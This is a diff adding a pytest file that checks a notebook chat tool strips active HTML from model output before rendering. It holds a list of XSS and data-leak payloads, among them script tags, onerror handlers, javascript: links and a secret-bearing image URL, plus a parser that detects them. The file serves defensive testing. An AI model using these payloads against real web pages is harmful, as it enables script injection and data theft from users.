@@ -1,0 +1,97 @@
+"""Model output is untrusted: whatever it contains, nothing active may reach a cell or a widget."""
+
+from html.parser import HTMLParser
+
+import pytest
+
+from nbsessions.render import format_footer, markdown_to_html, reply_bundle
+from nbsessions.schema import Metrics, RunOutput, RunStatus
+
+PAYLOADS = [
+    "<script>window.__xss=1</script>",
+    '<img src=x onerror="window.__xss=1">',
+    "[click](javascript:alert(1))",
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="JaVaScRiPt:alert(1)">x</a>',
+    '<svg onload="alert(1)"><circle r=1></svg>',
+    '<iframe src="https://example.com"></iframe>',
+    '<div style="background:url(https://example.com/leak)" onmouseover="x()">hover</div>',
+    "![exfiltrate](https://example.com/?q=secret)",
+    '<form action="https://example.com"><input name=a></form>',
+]
+
+
+class ActiveContent(HTMLParser):
+    """Collects everything in an HTML fragment that could run code or load a URL by itself."""
+
+    def __init__(self):
+        super().__init__()
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        if tag in {"script", "iframe", "img", "svg", "object", "embed", "form", "input", "style", "link", "meta"}:
+            self.found.append(tag)
+        for name, value in attrs:
+            if name.startswith("on") or name in {"style", "src", "srcset", "action", "formaction"} and \
+                    "url(" in (value or "") or name == "src":
+                self.found.append(f"{tag}[{name}]")
+            if name == "href" and (value or "").strip().lower().startswith(("javascript:", "data:", "vbscript:")):
+                self.found.append(f"{tag}[href={value}]")
+
+
+def active_content(fragment: str) -> list[str]:
+    parser = ActiveContent()
+    parser.feed(fragment)
+    return parser.found
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_no_payload_survives_as_active_html(payload):
+    html = markdown_to_html(f"Here you go:\n\n{payload}\n\nand **bold** text")
+    assert active_content(html) == []
+    assert "<strong>bold</strong>" in html
+
+
+def test_the_checker_itself_sees_active_content():
+    assert active_content('<img src=x onerror="a()">') == ["img", "img[src]", "img[onerror]"]
+    assert active_content('<a href="javascript:x">y</a>') == ["a[href=javascript:x]"]
+
+
+def test_formatting_code_tables_and_links_keep_working():
+    html = markdown_to_html(
+        "# Title\n\n*it* and `code`\n\n```python\nif a < b:\n    pass\n```\n\n"
+        "| a | b |\n|---|--:|\n| 1 | 2 |\n\n[docs](https://example.com/x) - item\n\n1. one\n2. two\n"
+    )
+    for fragment in ("<h1>Title</h1>", "<em>it</em>", "<code>code</code>", 'class="language-python"',
+                     "if a &lt; b:", "<table>", "<td", "<ol>", "<li>one</li>"):
+        assert fragment in html
+    assert 'href="https://example.com/x"' in html and "noopener" in html
+
+
+def test_markdown_images_become_links_that_load_nothing():
+    html = markdown_to_html("![chart](https://example.com/c.png)")
+    assert "<img" not in html
+    assert 'href="https://example.com/c.png"' in html and "[image: chart]" in html
+
+
+def test_reply_bundle_has_no_markdown_mime_and_escapes_the_footer():
+    run = RunOutput(session_id="s", model="<b>m</b>", status=RunStatus.completed, content="<script>x</script>hi",
+                    metrics=Metrics(input_tokens=3, output_tokens=4, time_to_first_token=0.25, duration=1.5,
+                                    cost=0.0012))
+    bundle = reply_bundle(run, session_label="<i>chat</i>")
+    assert set(bundle) == {"text/html", "text/plain"}
+    assert active_content(bundle["text/html"]) == []
+    assert "&lt;b&gt;m&lt;/b&gt;" in bundle["text/html"] and "&lt;i&gt;chat&lt;/i&gt;" in bundle["text/html"]
+    assert bundle["text/plain"].startswith("<script>x</script>hi")
+    streaming = reply_bundle(run)
+    assert "nbsessions-footer" not in streaming["text/html"]
+
+
+def test_footer_reads_model_session_tokens_latency_cost():
+    run = RunOutput(session_id="s", model="gpt-5.2", status=RunStatus.completed,
+                    metrics=Metrics(input_tokens=12, output_tokens=40, time_to_first_token=0.31, duration=1.2,
+                                    cost=0.0006))
+    assert format_footer(run, "my chat") == "gpt-5.2 · my chat · 12 in / 40 out tokens · TTFT 310 ms · 1.20 s · $0.0006"
+    run.metrics.cost = None
+    run.status, run.error = RunStatus.error, "429 rate limited"
+    assert format_footer(run, "c").endswith("cost n/a · error: 429 rate limited")
